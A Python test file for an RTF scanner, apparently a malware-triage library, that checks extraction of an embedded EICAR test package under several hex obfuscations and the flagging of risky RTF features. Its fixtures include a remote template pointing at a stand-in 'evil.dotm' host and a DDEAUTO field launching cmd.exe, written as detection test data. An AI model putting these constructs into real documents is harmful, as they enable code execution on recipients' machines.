"""content.rtf: objects and facts."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from documents import compound_file, facts, members, ole1_object, ole_package, problems
from eicar import EICAR
from lazaretto.content import rtf
from lazaretto.errors import LimitExceeded
from lazaretto.limits import Limits
from lazaretto.model import Reason

PACKAGE = ole1_object(b"Package", ole_package(b"eicar.com", EICAR))
HEX = PACKAGE.hex().encode()


def document(objdata: bytes) -> bytes:
    return b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata " + objdata + b"}}}"


@pytest.mark.parametrize(
    "objdata",
    [
        HEX,
        HEX.upper(),
        b"\r\n".join(HEX[at : at + 5] for at in range(0, len(HEX), 5)),
        b"\\foo12 ".join(HEX[at : at + 7] for at in range(0, len(HEX), 7)),
        b"{}".join(HEX[at : at + 20] for at in range(0, len(HEX), 20)),
        b"{\\*\\junk cafe}".join(HEX[at : at + 20] for at in range(0, len(HEX), 20)),  # ignorable groups
        b"{".join((HEX[:60], HEX[60:])) + b"}",  # digits in a group
        HEX[:40] + b"\\'ab" + HEX[40:],
        HEX[:40] + b"\\bin6 " + bytes.fromhex(HEX[40:52].decode()) + HEX[52:],
        b"0" + HEX,  # one digit too many
        HEX + b"0",
    ],
    ids=["plain", "upper", "lines", "words", "groups", "ignorable", "group", "char", "bin", "shifted", "odd"],
)
def test_package_in_any_spelling(objdata: bytes) -> None:
    found = [member for member in members("rtf", document(objdata)) if EICAR in member.data]
    assert found
    assert found[0].names == ("eicar.com",)
    assert found[0].is_file


@pytest.mark.parametrize("header", [b"{\\rt", b"{\\rtf1", b"junk{\\rtx"])
def test_headers(header: bytes) -> None:
    assert any(member.data == EICAR for member in members("rtf", header + b"{\\objdata" + HEX + b"}"))


def test_unfinished_document() -> None:
    assert any(member.data == EICAR for member in members("rtf", b"{\\rtf1{\\objdata " + HEX))


def test_native_data() -> None:
    inner = compound_file({"Equation Native": b"x"})
    found = [member for member in members("rtf", document(ole1_object(b"Equation.3", inner).hex().encode())) if member.is_file]
    assert [(member.names, member.data) for member in found] == [((), inner)]
    assert "rtf:object-class Equation.3" in facts("rtf", document(ole1_object(b"Equation.3", inner).hex().encode()))


def test_data_that_is_no_object_but_holds_a_file() -> None:
    found = [member for member in members("rtf", document((b"junk junk" + b"%PDF-1.7").hex().encode())) if member.is_file]
    assert [member.data for member in found] == [b"%PDF-1.7"]


@pytest.mark.parametrize(
    ("text", "fact"),
    [
        (b"{\\*\\template http://192.0.2.1/evil.dotm}", "rtf:template http://192.0.2.1/evil.dotm"),
        (b"{\\*\\template \\u104?\\'74tp{\\b ://a}/b}", "rtf:template http://a/b"),
        (b"{\\field{\\*\\fldinst {\\b DDEAUTO} c:\\\\x\\\\cmd.exe}}", "rtf:field DDEAUTO c:\\x\\cmd.exe"),
        (b'{\\*\\fldinst INCLUDEPICTURE "http://x"}', 'rtf:field INCLUDEPICTURE "http://x"'),
        (b"\\object\\objupdate", "rtf:object-update"),
        (b"\\objautlink", "rtf:object-link"),
        (b"{\\*\\objclass Equation.3}", "rtf:object-class Equation.3"),
    ],
)
def test_facts(text: bytes, fact: str) -> None:
    assert fact in facts("rtf", b"{\\rtf1 " + text + b"}")


@pytest.mark.parametrize("text", [b"{\\fldinst HYPERLINK x}", b"{\\fldinst PAGE}", b"\\templated", b"{\\*\\template }", b"plain"])
def test_no_facts(text: bytes) -> None:
    assert members("rtf", b"{\\rtf1 " + text + b"}") == []


def test_object_size_is_limited(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rtf, "MAX_OBJECT", 50)
    assert [p.reason for p in problems("rtf", document(HEX))] == [Reason.LIMIT]


def test_objects_are_limited() -> None:
    with pytest.raises(LimitExceeded):
        members("rtf", document(HEX) * 9, Limits(max_members=5))


def test_facts_are_limited(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rtf, "MAX_FACTS", 2)
    assert len(facts("rtf", b"".join(b"{\\objclass C%d}" % number for number in range(9)))) == 2


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [b"{", b"}", b"\\", b"\\objdata", b"\\bin99999999999 ", b"\\bin-1 ", b"\\'", b"\\u65?", b"\\template", HEX[:30], b"0", b"\0"]
        ),
        max_size=20,
    )
)
def test_never_raises(parts: list[bytes]) -> None:
    members("rtf", b"".join(parts))
    members("rtf", document(b"".join(parts)) + b"".join(parts))
